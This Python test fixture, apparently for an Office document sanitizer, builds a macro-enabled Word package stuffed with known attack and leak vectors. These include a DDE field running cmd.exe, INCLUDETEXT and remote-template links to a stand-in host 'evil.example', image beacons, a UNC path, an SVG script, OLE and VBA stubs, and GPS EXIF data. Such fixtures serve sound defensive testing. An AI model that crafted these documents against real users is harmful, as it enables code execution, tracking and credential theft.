"""Papers of a stranger who means ill, each way out of them that is known to us."""

import io
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image
from PIL.ExifTags import IFD

PACKAGE = "http://schemas.openxmlformats.org/package/2006"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "evil.example"
AUTHOR = "Тайный Автор"


def packed(parts: dict[str, Any]) -> bytes:
    made = io.BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return made.getvalue()


def parts_of(body: bytes) -> dict[str, bytes]:
    with ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def relations(*lines: tuple[str, str, str, str]) -> str:
    inside = "".join(
        f'<Relationship Id="{key}" Type="{R}/{kind}" Target="{target}"{mode}/>'
        for key, kind, target, mode in lines
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'


def types(main: str, kind: str) -> str:
    return (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="bin" ContentType="x/vba"/>'
        f'<Override PartName="/{main}" ContentType="{kind}"/></Types>'
    )


def photo() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Telephone of a person"
    exif.get_ifd(IFD.GPSInfo)[1] = "N"
    body = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 20, 20)).save(body, "JPEG", exif=exif)
    return body.getvalue()


OUT = ' TargetMode="External"'
#: A DOCM with each way out that is known to us, between words that must stay.
HOSTILE = {
    "[Content_Types].xml": types(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "_rels/.rels": relations(
        ("a", "officeDocument", "word/document.xml", ""),
        ("b", "metadata/core-properties", "docProps/core.xml", ""),
        ("c", "ui/extensibility", "customUI/customUI.xml", ""),
    ),
    "docProps/core.xml": f"<x>{AUTHOR}</x>",
    "customUI/customUI.xml": "<customUI onLoad='Run'/>",
    "word/document.xml": f"""<w:document xmlns:w="{W}" xmlns:r="{R}"
 xmlns:a="a" xmlns:asvg="s" xmlns:o="o" xmlns:v="v" xmlns:unused="u" xmlns:mc="m"
 mc:Ignorable="unused"><w:body>
<w:p w:rsidR="00AA"><w:r><w:t xml:space="preserve">Продали просроченное </w:t></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>
<w:r><w:instrText>AUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>видно из поля</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr="INCLUDETEXT http://{EVIL}/x"><w:r><w:t>видно из простого</w:t></w:r>
</w:fldSimple><w:fldSimple w:instr=" PAGE "><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText> PAGEREF x \\h </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:hyperlink r:id="web"><w:r><w:t>магазин</w:t></w:r></w:hyperlink>
<w:hyperlink r:id="disk"><w:r><w:t>папка</w:t></w:r></w:hyperlink></w:p>
<w:r><w:object><v:shape><v:imagedata r:id="photo" o:href="http://{EVIL}/i"/></v:shape>
<o:OLEObject ProgID="Equation.3" r:id="ole"/></w:object></w:r>
<a:blip r:embed="photo"><a:ext><asvg:svgBlip r:embed="svg"/></a:ext></a:blip>
<a:blip r:link="far"/><v:fill src="\\\\{EVIL}\\x"/><w:altChunk r:id="chunk"/>
<w:ins w:author="{AUTHOR}" w:id="1"><w:r><w:t>вставка</w:t></w:r></w:ins>
</w:body></w:document>""",
    "word/_rels/document.xml.rels": relations(
        ("macros", "vbaProject", "vbaProject.bin", ""),
        ("ole", "oleObject", "embeddings/oleObject1.bin", ""),
        ("chunk", "aFChunk", "afchunk.mht", ""),
        ("svg", "image", "media/one.svg", ""),
        ("photo", "image", "media/one.jpeg", ""),
        ("far", "image", f"http://{EVIL}/beacon.png", OUT),
        ("web", "hyperlink", "https://shop.example/", OUT),
        ("disk", "hyperlink", f"file://{EVIL}/share", OUT),
        ("set", "settings", "settings.xml", ""),
    ),
    "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="t"/>'
    f'<w:docVars><w:docVar w:name="{AUTHOR}"/></w:docVars><w:zoom w:percent="90"/></w:settings>',
    "word/_rels/settings.xml.rels": relations(
        ("t", "attachedTemplate", f"http://{EVIL}/t.dotm", OUT)
    ),
    "word/vbaProject.bin": b"macro " + EVIL.encode(),
    "word/vbaData.xml": "<x/>",
    "word/activeX/activeX1.xml": "<x/>",
    "word/embeddings/oleObject1.bin": b"ole " + EVIL.encode(),
    "word/afchunk.mht": EVIL,
    "word/media/one.svg": f"<svg xmlns='x'><script href='//{EVIL}'/></svg>",
    "word/media/one.jpeg": photo(),
}
